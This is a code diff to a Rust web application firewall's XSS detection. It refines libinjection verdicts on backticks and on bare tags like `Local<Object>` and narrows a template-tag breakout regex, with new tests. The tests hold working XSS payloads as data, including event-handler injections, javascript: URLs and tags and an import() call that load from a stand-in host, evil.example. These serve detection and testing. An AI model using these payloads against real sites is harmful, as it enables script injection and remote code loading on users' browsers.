@@ -8,8 +8,11 @@
 //!   values) and flags script-capable tags, event-handler attributes, and URL attributes with a
 //!   script scheme. It also flags every `style` attribute, URLs merely starting with `data`
 //!   (`href="database.html"`) and doctypes; when the value has nothing that can run script or
-//!   load content, the verdict counts as a weaker rule (1201, paranoia 2). A panic of the
-//!   tokenizer is caught and reported as rule 1299, critical: fail closed.
+//!   load content, the verdict counts as a weaker rule (1201, paranoia 2). So does a verdict
+//!   that rests only on backticks read as Internet Explorer read them (in an HTML comment, as
+//!   an attribute quote: Markdown's `<!-- … `code` … -->`) or on embedding tags without
+//!   attributes (`Local<Object>` in C++). A panic of the tokenizer is caught and reported as
+//!   rule 1299, critical: fail closed.
 //! * **technique patterns** (rules 1210–1269) on the canonical view (URL-decoded, control
 //!   characters removed, HTML entities decoded, full-width and homoglyph forms folded,
 //!   lowercase, whitespace compressed), so `&#x6A;avascript:`, `java&#x09;script:`,
@@ -55,7 +58,7 @@ const R_LIBINJECTION_STYLE: Rule = rule(
     1201,
     Critical,
     2,
-    "HTML flagged by the libinjection HTML5 tokenizer without any script-capable construct (plain inline styles, links to paths starting with \"data\", doctype)",
+    "HTML flagged by the libinjection HTML5 tokenizer without any script-capable construct (plain inline styles, links to paths starting with \"data\", doctype, backticks read as Internet Explorer read them, embedding tags without attributes)",
 );
 const R_SCRIPT_TAG: Rule = rule(1210, Critical, 1, "Script element (<script>, </script>)");
 const R_EVENT_HANDLER: Rule = rule(
@@ -222,6 +225,15 @@ macro_rules! js_exec {
         r"(?:alert|prompt|confirm|eval|print|fetch|atob|open|settimeout|setinterval|function|import|top\s*\[|window\s*\[|self\s*\[|this\s*\[|parent\s*\[|globalthis\s*\[|constructor|document\.|location)"
     };
 }
+/// Those of [`js_exec`] that still run a payload called as a template tag (`` alert`1` ``,
+/// `` setTimeout`…` ``, `` top[`alert`] ``): `eval`, `import`, `atob` and `location` do not
+/// (`` eval`x` `` returns its strings unevaluated, `` import`x` `` does not parse), so a
+/// Markdown code span naming a flag (`` `--eval` ``, `` `--import` ``) is no breakout.
+macro_rules! js_tag {
+    () => {
+        r"(?:alert|prompt|confirm|print|fetch|open|settimeout|setinterval|function|top\s*\[|window\s*\[|self\s*\[|this\s*\[|parent\s*\[|globalthis\s*\[|constructor)"
+    };
+}
 
 struct Pattern {
     rule: &'static Rule,
@@ -303,7 +315,13 @@ static PATTERNS: &[Pattern] = &[
     ),
     p(
         &R_JS_BREAKOUT,
-        concat!(r#"['"`]\s*\)*\s*[;,+\-*/|&^]+\s*"#, js_exec!(), r"\s*[(`]"),
+        concat!(
+            r#"['"`]\s*\)*\s*[;,+\-*/|&^]+\s*(?:"#,
+            js_exec!(),
+            r"\s*\(|",
+            js_tag!(),
+            r"\s*`)"
+        ),
     ),
     p(&R_JS_BREAKOUT, r"</\s*script\s*>"),
     p(
@@ -440,6 +458,51 @@ fn harmless_markup(canonical: &[u8]) -> bool {
     true
 }
 
+/// Elements that load or run nothing without attributes (what they embed or change comes from
+/// `src`, `data`, `href`, `http-equiv` …): libinjection flags them bare, as C++, Rust and Java
+/// generics write them (`Local<Object>`, `Option<Frame>`, `Vec<Link>`).
+const INERT_BARE_TAGS: &[&[u8]] = &[
+    b"object",
+    b"embed",
+    b"applet",
+    b"iframe",
+    b"frame",
+    b"frameset",
+    b"base",
+    b"link",
+    b"meta",
+];
+
+/// Whether libinjection's verdict on `input` rests only on markup no browser in use acts on:
+/// backticks read as Internet Explorer read them (a comment holding one ends a tag there, a
+/// backtick quotes an attribute value), which Markdown puts in HTML comments
+/// (`` <!-- YAML … `options` … --> ``) and code spans; and the [`INERT_BARE_TAGS`] written
+/// without attributes (`<object>`). The value is tokenized again with every backtick and the
+/// `<` of every such bare tag read as a space: clean then, the verdict counts as rule 1201.
+fn rests_on_inert_markup(input: &[u8]) -> bool {
+    let input = input.get(..TOKENIZER_MAX).unwrap_or(input);
+    let mut copy = input.to_vec();
+    let mut changed = false;
+    for i in 0..copy.len() {
+        let bare_tag = |name: &[u8]| {
+            input
+                .get(i + 1..i + 1 + name.len())
+                .is_some_and(|t| t.eq_ignore_ascii_case(name))
+                && input.get(i + 1 + name.len()) == Some(&b'>')
+        };
+        match copy.get(i) {
+            Some(b'`') => {}
+            Some(b'<') if INERT_BARE_TAGS.iter().any(|n| bare_tag(n)) => {}
+            _ => continue,
+        }
+        if let Some(b) = copy.get_mut(i) {
+            *b = b' ';
+            changed = true;
+        }
+    }
+    changed && tokenize(&copy) == Some(false)
+}
+
 /// Forces pattern compilation (at start-up rather than on the first request).
 pub fn warm_up() {
     LazyLock::force(&COMPILED);
@@ -564,7 +627,9 @@ fn report_tokenizer(sink: &mut Sink<'_, '_>, views: &mut Views, view: View, verd
     match verdict {
         Some(false) => {}
         Some(true) => {
-            let rule = if harmless_markup(views.get(View::Canonical).as_bytes()) {
+            let rule = if harmless_markup(views.get(View::Canonical).as_bytes())
+                || rests_on_inert_markup(views.get(view).as_bytes())
+            {
                 &R_LIBINJECTION_STYLE
             } else {
                 &R_LIBINJECTION
@@ -770,6 +835,81 @@ mod tests {
         assert_rule("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", 1219);
         assert_rule("<?xml-stylesheet href=\"javascript:alert(1)\"?>", 1220);
         assert_rule("<b>alert(1)</b>", 1221);
+    }
+
+    /// libinjection flags a backtick inside an HTML comment and backtick-quoted values (how
+    /// Internet Explorer read them) and the embedding tags written bare, as generics are in
+    /// C++, Rust and Java: Markdown comments and code. Rule 1201 at paranoia 2, not 1200.
+    #[test]
+    fn internet_explorer_backticks_and_bare_embedding_tags_are_paranoia_2() {
+        for v in [
+            "<!-- YAML\nadded: v1.0.0\nchanges:\n  - version: v2.0.0\n    description: The `signal` option was added.\n-->",
+            "<!-- TODO: document `--watch` -->",
+            "<!-- lint disable `no-undef` -->\nSee below.",
+            "Local<Object> obj = Object::New(isolate);",
+            "void Init(Local<Object> exports, Local<Object> module) {",
+            "fn frames(&self) -> Vec<Frame>",
+            "Returns a `Promise<Object>` that resolves with the `Link` map.",
+            "Option<Meta> and Arc<Base>",
+            "<iframe>",
+            "<OBJECT>",
+        ] {
+            assert_passes(v, 1);
+            assert!(rules(v, 2).contains(&1201), "{v:?}: {:?}", rules(v, 2));
+            assert!(!rules(v, 2).contains(&1200), "{v:?}: {:?}", rules(v, 2));
+        }
+    }
+
+    /// The same markup with anything a browser acts on stays rule 1200 and blocks.
+    #[test]
+    fn backticks_and_bare_tags_beside_script_still_block() {
+        for v in [
+            "<!-- `x` --><img src=x onerror=alert(1)>",
+            "<!--`--><svg onload=alert(1)>",
+            "<img src=`javascript:alert(1)`>",
+            "<a href=`javascript:alert(1)`>x</a>",
+            "Local<Object> x; <script>alert(1)</script>",
+            "<object data=javascript:alert(1)>",
+            "<object data=\"//evil.example/x.swf\"></object>",
+            "<iframe src=//evil.example>",
+            "<iframe/src=javascript:alert(1)>",
+            "<embed src=//evil.example/x.swf>",
+            "<base href=//evil.example/>",
+            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+            "<link rel=import href=//evil.example/x.html>",
+        ] {
+            assert_blocked(v, 1);
+            assert_rule(v, 1200);
+        }
+    }
+
+    /// `eval`, `import`, `atob` and `location` run nothing called as a template tag, so a
+    /// Markdown code span naming a flag is no breakout; the functions that do run still are.
+    #[test]
+    fn template_tag_breakouts() {
+        for v in [
+            "`--eval`",
+            "`--import`",
+            "* `--import`",
+            "Pass code with `--eval` or `--import`.",
+            "[`--eval`]: cli.md#-e---eval-script",
+            "`--location`",
+        ] {
+            assert!(!rules(v, 1).contains(&1218), "{v:?}: {:?}", rules(v, 1));
+            assert!(score(v, 1) < 5, "{v:?}: {:?}", rules(v, 1));
+        }
+        for v in [
+            "'-alert`1`-'",
+            "\"-confirm`1`-\"",
+            "`-prompt`1`-`",
+            "';setTimeout`alert\\x281\\x29`//",
+            "`-top[`alert`]`1`-`",
+            "'-eval(atob('YWxlcnQoMSk='))-'",
+            "';import('//evil.example/x.js')//",
+        ] {
+            assert_rule(v, 1218);
+            assert_blocked(v, 1);
+        }
     }
 
     #[test]
